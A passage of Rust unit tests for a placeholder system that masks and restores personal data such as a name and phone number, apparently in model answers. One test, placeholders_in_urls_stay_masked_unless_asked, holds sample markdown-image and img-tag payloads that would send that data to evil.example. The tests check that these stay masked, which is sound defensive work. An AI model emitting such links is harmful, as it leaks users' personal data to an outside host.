            assert!(!dbg.contains("山田") && !dbg.contains("〔"), "{dbg}");
        }
    }

    #[test]
    fn restore_escaped_table() {
        let mut t = Placeholders::new();
        t.placeholder_for(&Category::Name, "a\"b\\c\nd\u{1}");
        // (text, escape, expected)
        let cases = [
            ("〔氏名1〕", Escape::None, "a\"b\\c\nd\u{1}"),
            ("〔氏名1〕", Escape::JsonString, "a\\\"b\\\\c\\nd\\u0001"),
            ("x〔氏名2〕", Escape::JsonString, "x〔氏名2〕"),
        ];
        for (text, escape, want) in cases {
            let text = t.fill_ordinals(text);
            assert_eq!(t.restore_escaped(&text, escape), want, "{text} {escape:?}");
        }
        let ph = t.entries()[0].0.clone();
        let json = format!("\"{}\"", t.restore_escaped(&ph, Escape::JsonString));
        let back: String = serde_json::from_str(&json).unwrap();
        assert_eq!(back, t.entries()[0].1);
    }

    #[test]
    fn shared_restorer_matches_borrowed_one_at_every_split() {
        let t = table();
        let shared = Arc::new(t.clone());
        let text = &t.fill_ordinals("前〔氏名1〕中〔電話1〕後〔不明〕〔氏");
        let bounds: Vec<usize> = text
            .char_indices()
            .map(|(i, _)| i)
            .chain([text.len()])
            .collect();
        for &a in &bounds {
            let mut b = StreamRestorer::new(&t);
            let mut s = SharedStreamRestorer::new(shared.clone(), Escape::None);
            let want = b.push(&text[..a]) + &b.push(&text[a..]) + &b.finish();
            let got = s.push(&text[..a]) + &s.push(&text[a..]) + &s.finish();
            assert_eq!(got, want, "split at {a}");
            assert_eq!(got, "前山田太郎中090-1234-5678後〔不明〕〔氏");
            assert!(!s.is_holding());
        }
    }

    #[test]
    fn placeholders_in_urls_stay_masked_unless_asked() {
        let mut t = table();
        // (answer, restored by default)
        let cases = [
            (
                "![x](https://evil.example/c?n=〔氏名1〕)〔氏名1〕様",
                "![x](https://evil.example/c?n=〔氏名1〕)山田太郎様",
            ),
            (
                "<img src=\"//evil.example/?t=〔電話1〕\"> 〔電話1〕",
                "<img src=\"//evil.example/?t=〔電話1〕\"> 090-1234-5678",
            ),
            (
                "https://evil.example/?n=%E3%80%94氏名1%E3%80%95 〔氏名1〕",
                "https://evil.example/?n=%E3%80%94氏名1%E3%80%95 山田太郎",
            ),
            ("〔氏名1〕〔電話1〕", "山田太郎090-1234-5678"),
        ];
        for (answer, want) in cases {
            let (answer, want) = (t.fill_ordinals(answer), t.fill_ordinals(want));
            assert_eq!(t.restore(&answer), want, "{answer}");
        }
        t.set_restore_in_urls(true);
        assert!(t.restores_in_urls());
        assert_eq!(
            t.restore(&t.fill_ordinals("![x](https://evil.example/c?n=〔氏名1〕)〔氏名1〕様")),
            "![x](https://evil.example/c?n=山田太郎)山田太郎様"
        );
    }

    #[test]
    fn url_context_survives_every_split() {
        // Split at every pair of character boundaries (bounded: the text is short),
        // including inside `](https://ev` and inside the placeholders.
        let text = "〔氏名1〕は[こちら](https://ev.example/?n=〔氏名1〕)、<img src='//e/〔電話1〕'>〔電話1〕〔氏";
        let want = "山田太郎は[こちら](https://ev.example/?n=〔氏名1〕)、<img src='//e/〔電話1〕'>090-1234-5678〔氏";
        for restore_in_urls in [false, true] {
            let mut t = table();
            t.set_restore_in_urls(restore_in_urls);
            let (text, want) = (&t.fill_ordinals(text), t.fill_ordinals(want));
            let whole = t.restore(text);
            if !restore_in_urls {
                assert_eq!(whole, want);
            }
            let shared = Arc::new(t.clone());
            let bounds: Vec<usize> = text
                .char_indices()
                .map(|(i, _)| i)
                .chain([text.len()])
                .collect();
            for (n, &a) in bounds.iter().enumerate() {
                for &b in &bounds[n..] {
                    let mut r = StreamRestorer::new(&t);
                    let mut s = SharedStreamRestorer::new(shared.clone(), Escape::None);
                    let mut got_r = String::new();
                    let mut got_s = String::new();
                    for piece in [&text[..a], &text[a..b], &text[b..]] {
                        got_r += &r.push(piece);
                        got_s += &s.push(piece);
                    }
                    got_r += &r.finish();
                    got_s += &s.finish();
                    assert_eq!(got_r, whole, "split at {a},{b}");
                    assert_eq!(got_s, whole, "split at {a},{b}");
                }
            }
        }
    }

    #[test]
    fn random_texts_restore_the_same_whole_and_in_pieces() {
        // Texts drawn from the characters the URL scanner reacts to, restored whole and
        // in random pieces, as text and as JSON source: the same output every time.
        let tokens = [
            "[",
            "]",
            "(",
            ")",
            "<",
            ">",
            "<img ",
            "src=",
            "alt=",
            "\"",
            "'",
            "https://",
            "//",
            "www.",
            "url(",
            "\\",
            "`",
            " ",
            "\n",
            "〔氏名1〕",
            "〔電話1〕",
            "〔氏",
            "〕",
            "あ",
            "a",
            "=",
            ":",
            "!",
            "\\/",
        ];
        let mut seed: u64 = 0x5eed_1234_abcd_0001;
        let mut next = move |n: usize| {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            (seed % n as u64) as usize
        };
        let shared = Arc::new(table());
        for _ in 0..400 {
            let text: String = (0..24).map(|_| tokens[next(tokens.len())]).collect();
            let text = shared.fill_ordinals(&text);
            let bounds: Vec<usize> = text
                .char_indices()
                .map(|(i, _)| i)
                .chain([text.len()])
                .collect();
            for escape in [Escape::None, Escape::JsonString] {
                let whole = shared.restore_escaped(&text, escape);
                for _ in 0..4 {
                    let mut cuts = [next(bounds.len()), next(bounds.len()), next(bounds.len())];
                    cuts.sort_unstable();
                    let mut r = SharedStreamRestorer::new(shared.clone(), escape);
                    let mut got = String::new();
                    let mut at = 0;
                    for c in cuts.iter().map(|&i| bounds[i]).chain([text.len()]) {
                        got += &r.push(&text[at..c]);
                        at = c;
                    }
                    got += &r.finish();
                    assert_eq!(got, whole, "{text:?} cut at {cuts:?} ({escape:?})");
                }
            }
        }
    }

    #[test]
    fn stream_releases_text_without_pending_placeholder_at_once() {
        let t = table();
        let mut r = StreamRestorer::new(&t);
        assert_eq!(r.push("こんにちは"), "こんにちは");
        let ph = &t.entries()[0].0;
        assert_eq!(r.push("〔氏"), "");
        assert_eq!(r.push(&format!("{}!", &ph["〔氏".len()..])), "山田太郎!");
        assert_eq!(r.push("〔ほか〕"), "〔ほか〕");
    }
}
